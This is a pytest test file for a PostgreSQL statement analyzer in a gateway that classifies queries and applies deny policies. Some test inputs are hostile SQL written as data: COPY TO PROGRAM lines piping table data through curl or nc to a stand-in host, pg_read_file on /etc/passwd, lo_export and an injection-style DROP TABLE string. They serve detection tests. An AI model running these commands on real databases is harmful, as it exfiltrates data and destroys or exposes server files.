"""Statement analysis with PostgreSQL's parser: classes, objects, hidden writes, fail closed."""

from __future__ import annotations

import subprocess
import sys
from pathlib import Path
from typing import Any

import msgspec
import pytest
from hypothesis import given
from hypothesis import strategies as st

from proctor.events.context import decode_context
from proctor.gateway.postgres.sql import Analyzer, SqlError, analyze
from proctor.policy.engine import PolicyEngine
from proctor.policy.loader import load_policies
from proctor.risk.baselines import Baselines
from proctor.risk.engine import RiskEngine

POLICIES = Path(__file__).resolve().parents[3] / "examples" / "policies"


@pytest.mark.parametrize(
    ("sql", "action", "operation"),
    [
        ("SELECT * FROM orders WHERE id = 1", "read", "SELECT"),
        ("select 1 union select 2", "read", "SELECT"),
        ("SELECT * INTO backup FROM orders", "ddl", "SELECT INTO"),
        ("INSERT INTO orders VALUES (1)", "write", "INSERT"),
        ("UPDATE orders SET a = 1 WHERE id = 2", "write", "UPDATE"),
        ("DELETE FROM orders WHERE id = 2", "write", "DELETE"),
        ("COPY orders FROM STDIN", "write", "COPY FROM"),
        ("COPY orders TO STDOUT", "read", "COPY TO"),
        ("COPY orders TO PROGRAM 'curl -d @- evil.example'", "admin", "COPY PROGRAM"),
        ("CREATE TABLE t (a int)", "ddl", "CREATE TABLE"),
        ("DROP TABLE a, b.c", "ddl", "DROP TABLE"),
        ("DROP VIEW v", "ddl", "DROP VIEW"),
        ("TRUNCATE orders", "ddl", "TRUNCATE"),
        ("ALTER TABLE t ADD COLUMN b int", "ddl", "ALTER TABLE"),
        ("GRANT SELECT ON orders TO bob", "admin", "GRANT"),
        ("REVOKE SELECT ON orders FROM bob", "admin", "REVOKE"),
        ("GRANT admin TO bob", "admin", "GRANT ROLE"),
        ("ALTER ROLE bob SUPERUSER", "admin", "ALTER ROLE"),
        ("ALTER SYSTEM SET wal_level = minimal", "admin", "ALTER SYSTEM"),
        ("DO $$ BEGIN PERFORM 1; END $$", "admin", "DO"),
        ("CREATE EXTENSION dblink", "admin", "CREATE EXTENSION"),
        ("VACUUM orders", "admin", "VACUUM"),
        ("ANALYZE orders", "utility", "ANALYZE"),
        ("BEGIN", "transaction", "BEGIN"),
        ("ROLLBACK", "transaction", "ROLLBACK"),
        ("SET search_path = public", "utility", "SET"),
        ("SHOW search_path", "read", "SHOW"),
        ("EXPLAIN DELETE FROM orders", "read", "EXPLAIN"),
        ("EXPLAIN ANALYZE DELETE FROM orders", "write", "EXPLAIN ANALYZE DELETE"),
        ("PREPARE q AS DELETE FROM orders WHERE id = $1", "write", "PREPARE DELETE"),
        ("EXECUTE q(1)", "admin", "EXECUTE"),
        ("DECLARE c CURSOR FOR SELECT 1", "read", "DECLARE CURSOR SELECT"),
        ("COPY (DELETE FROM accounts RETURNING *) TO STDOUT", "write", "COPY TO"),
        ("SET ROLE postgres", "admin", "SET"),
        ("RESET ROLE", "admin", "SET"),
        ("SET SESSION AUTHORIZATION postgres", "admin", "SET"),
        ("SET session_replication_role = replica", "admin", "SET"),
        ("SELECT set_config('role', 'postgres', false)", "admin", "SELECT"),
        ("SELECT pg_terminate_backend(42)", "admin", "SELECT"),
        ("SELECT * FROM orders FOR UPDATE", "write", "SELECT FOR UPDATE"),
        ("WITH s AS (SELECT 1) INSERT INTO t SELECT * FROM s", "write", "INSERT"),
    ],
)
def test_classes_and_operations(sql: str, action: str, operation: str) -> None:
    a = analyze(sql)
    assert (a.action, a.operation) == (action, operation)


def test_multi_statement_strings_take_their_most_guarded_class() -> None:
    a = analyze("SELECT 1; BEGIN; DROP TABLE orders; COMMIT")
    assert [s.action for s in a.statements] == ["read", "transaction", "ddl", "transaction"]
    assert (a.action, a.operation) == ("ddl", "DROP TABLE")
    assert a.features().statement_count == 4
    assert [s.text for s in a.statements][2] == "DROP TABLE orders"


def test_objects_functions_and_hidden_writes() -> None:
    a = analyze(
        "WITH gone AS (DELETE FROM public.orders RETURNING *) "
        "SELECT pg_catalog.PG_READ_FILE('/etc/passwd'), lower(name) "
        "FROM gone JOIN sales.customers c ON true"
    )
    s = a.statements[0]
    assert s.operation == "SELECT"  # the statement is a SELECT …
    assert s.writes_in_cte and not s.has_where  # … that deletes every order in a CTE
    assert s.action == "admin"  # it reads a server file: admin, the most guarded class
    hidden = analyze("WITH gone AS (DELETE FROM t RETURNING *) SELECT * FROM gone").statements
    assert hidden[0].action == "write"  # a hidden write alone: write (read-only refuses it)
    # "gone" is the CTE; it stays in (an extra name only makes policies stricter)
    assert set(s.objects) == {"public.orders", "sales.customers", "gone"}
    assert set(s.functions) == {"pg_read_file", "lower"}
    f = a.features()
    assert f.writes_in_cte and not f.has_where and set(f.functions) == {"pg_read_file", "lower"}


@pytest.mark.parametrize(
    ("sql", "has_where"),
    [
        ("UPDATE t SET a = 1", False),
        ("DELETE FROM t", False),
        ("DELETE FROM t WHERE true", True),
        ("UPDATE t SET a = 1 WHERE CURRENT OF c", True),
        ("SELECT * FROM t", True),
        ("WITH x AS (UPDATE t SET a = 1 WHERE id = 2 RETURNING 1) SELECT * FROM x", True),
    ],
)
def test_where_detection(sql: str, has_where: bool) -> None:
    assert analyze(sql).features().has_where is has_where


def test_names_a_policy_may_look_for_are_never_hidden_or_cut() -> None:
    assert analyze("WITH secrets AS (SELECT 1) DELETE FROM secrets").statements[0].objects == (
        "secrets",
    )
    assert set(analyze("DROP TABLE hr.salaries, audit").statements[0].objects) == {
        "hr.salaries",
        "audit",
    }
    many = "SELECT 1 FROM " + ", ".join(f"t{i}" for i in range(257))
    with pytest.raises(SqlError, match="more than 256"):
        analyze(many).features()


def test_copy_program_and_dangerous_functions_in_features() -> None:
    f = analyze("COPY (SELECT 1) TO PROGRAM 'sh'; SELECT lo_export(1, '/tmp/x')").features()
    assert f.copy_program and "lo_export" in f.functions


def test_fingerprints_ignore_constants() -> None:
    a = analyze("SELECT * FROM t WHERE id = 1").statements[0].fingerprint
    b = analyze("select *  from t where id = 42").statements[0].fingerprint
    c = analyze("SELECT * FROM u WHERE id = 1").statements[0].fingerprint
    assert a == b != c and len(a) == 16


def test_unparseable_sql_is_refused() -> None:
    with pytest.raises(SqlError, match="does not parse"):
        analyze("SELEC * FROM t")
    with pytest.raises(SqlError):
        analyze("SELECT 1; DROP TABLE")


def test_empty_string_is_an_empty_analysis() -> None:
    a = analyze("")
    assert a.statements == () and a.action == "utility" and a.features().statement_count == 0


def test_analyzer_caches_by_exact_text() -> None:
    an = Analyzer(size=2)
    first = an.analyze("SELECT 1")
    assert an.analyze("SELECT 1") is first and an.hits == 1
    an.analyze("SELECT 2")
    an.analyze("SELECT 3")  # evicts "SELECT 1"
    assert an.analyze("SELECT 1") is not first
    with pytest.raises(SqlError):
        an.analyze("nonsense here")


@given(st.text(max_size=80))
def test_any_text_parses_or_is_refused_cleanly(text: str) -> None:
    try:
        a = analyze(text)
    except SqlError:
        return
    assert a.features().statement_count == len(a.statements)


def test_the_analysis_feeds_risk_and_policy() -> None:
    engine = PolicyEngine(load_policies(POLICIES))
    risk = RiskEngine(Baselines())
    base = decode_context(
        {
            "principal": {"id": "erin", "roles": ["engineer"]},
            "action": {"class": "connect"},
            "resource": {"type": "database", "name": "shop"},
            "time": "2026-11-23T10:00:00Z",
        }
    )

    def decide(sql: str) -> tuple[str, set[str]]:
        ctx = msgspec.structs.replace(base, action=analyze(sql).action_info())
        r = risk.assess(ctx)
        return engine.decide(ctx, r).effect, {f.signal for f in r.factors}

    assert decide("UPDATE orders SET paid = true WHERE id = 7") == ("allow", set())
    effect, signals = decide("WITH x AS (DELETE FROM orders RETURNING 1) SELECT count(*) FROM x")
    assert effect == "deny" and signals == {"unbounded_write"}  # no-unbounded-writes
    effect, signals = decide("COPY orders TO PROGRAM 'nc evil 9'")
    assert effect == "deny" and "copy_program" in signals


def test_settings_and_names_the_gateway_watches() -> None:
    def first(sql: str) -> Any:
        return analyze(sql).statements[0]

    assert first("SET NAMES 'SJIS'").settings == ("client_encoding",)
    assert first("SET LOCAL search_path = hr").settings == ("search_path",)
    assert first("RESET ALL").settings == ("all",)
    assert first("SELECT set_config('search_path', 'hr', false)").settings == ("search_path",)
    assert first("SELECT set_config($1, 'x', false)").settings == ("*",)
    assert first("DEALLOCATE ALL").redefines and first("DECLARE c CURSOR FOR SELECT 1").redefines
    assert not first("SELECT 1").redefines
    assert first("SELECT query_to_xml('select * from hr.salaries', true, false, '')").action == (
        "admin"
    )


@pytest.mark.parametrize(
    ("sql", "computed"),
    [
        ("SELECT id, email FROM people", set()),
        ("SELECT p.email, p.* FROM people p", set()),
        ("SELECT email AS email FROM people", set()),
        ("SELECT email AS e FROM people", {"email"}),
        ("SELECT id FROM people WHERE email = 'a' ORDER BY name", {"email", "name"}),
        ("SELECT p FROM people p", {"*"}),
        ("SELECT count(*) FROM people", set()),
        ("SELECT array_agg(p.*) FROM people p", {"*"}),
        ("SELECT a FROM people AS p(a)", {"*"}),
        ("SELECT id FROM people UNION SELECT id FROM people", {"id"}),
        ("INSERT INTO t SELECT email FROM people", {"email"}),
        ("SELECT p.id FROM people p JOIN guesses g USING (email)", {"email"}),
        ("SELECT id FROM people NATURAL JOIN guesses", {"*"}),
    ],
)
def test_columns_computed_with_are_told_from_plain_outputs(sql: str, computed: set[str]) -> None:
    assert set(analyze(sql).statements[0].computed_columns) == computed


def test_statements_differing_only_in_constants_share_one_analysis() -> None:
    a = Analyzer()
    first = a.analyze("SELECT abalance FROM accounts WHERE aid = 1")
    again = a.analyze("SELECT abalance FROM accounts WHERE aid = 22")
    assert (a.misses, a.shape_hits) == (1, 1)
    assert again.statements[0].text == "SELECT abalance FROM accounts WHERE aid = 22"
    assert again.action_info() == first.action_info()
    hidden = a.analyze("SELECT abalance FROM accounts WHERE aid = 'x; DROP TABLE accounts'")
    assert hidden.action == "read" and a.shape_hits == 2  # a constant stays a constant


@pytest.mark.parametrize(
    ("one", "other"),
    [
        (
            "SELECT set_config('application_name', 'x', false)",
            "SELECT set_config('role', 'x', false)",
        ),
        ("EXPLAIN (ANALYZE false) DELETE FROM t", "EXPLAIN (ANALYZE true) DELETE FROM t"),
        ("SET work_mem = '1MB'", "SET work_mem = '2MB'"),
        ("SELECT 1; SELECT 2", "SELECT 3; SELECT 4"),
    ],
)
def test_where_a_constant_can_matter_each_text_is_analysed(one: str, other: str) -> None:
    a = Analyzer()
    a.analyze(one)
    second = a.analyze(other)
    assert a.shape_hits == 0 and a.misses == 2
    assert second == analyze(other)


def test_deep_statements_are_analyzed_or_refused_never_crash_the_process() -> None:
    # ~24,000 levels of a left-deep tree overflowed pglast's recursive conversion on an 8 MiB
    # stack (SIGSEGV: every session of the gateway gone). Run where a crash is visible.
    script = (
        "from proctor.gateway.postgres.sql import analyze, SqlError\n"
        "a = analyze('SELECT ' + '+'.join(['1'] * 30000))\n"
        "b = analyze(' UNION '.join(['SELECT 1'] * 30000))\n"
        "print(a.statements[0].operation, b.statements[0].operation)\n"
        "try:\n"
        "    analyze('SELECT ' + '+'.join(['1'] * 300000))\n"
        "except SqlError as exc:\n"
        "    print(exc)\n"
    )
    res = subprocess.run(
        [sys.executable, "-c", script], capture_output=True, text=True, timeout=300, check=False
    )
    assert res.returncode == 0, (res.returncode, res.stderr[-2000:])
    lines = res.stdout.splitlines()
    assert lines[0] == "SELECT SELECT"
    assert lines[1] == (
        "the SQL text has 600000 tokens, more than the 500000 Proctor analyzes: "
        "split it (or load data with COPY)"
    )


@pytest.mark.parametrize(
    ("sql", "recorded"),
    [
        ("EXECUTE p(1, 'Hunter Valley')", "EXECUTE p($1, $2)"),
        ("ALTER ROLE bob PASSWORD 'hunter2'", "ALTER ROLE bob PASSWORD $1"),
        (
            "CREATE TABLE t (a text DEFAULT 'pw') -- the vault code",
            "CREATE TABLE t (a text DEFAULT $1)",
        ),
        (
            "SELECT * FROM t WHERE a = E'x\\'y' /* why */ AND b = 2",
            "SELECT * FROM t WHERE a = $1 AND b = $2",
        ),
        ("SELECT $tag$ secret $tag$, U&'d\\0061t\\+000061'", "SELECT $1, $2"),
        ("PREPARE s1 AS SELECT 1", "PREPARE s1 AS SELECT $1"),
    ],
)
def test_the_recorded_statement_keeps_no_literal_and_no_comment(sql: str, recorded: str) -> None:
    assert analyze(sql).statements[0].redacted == recorded
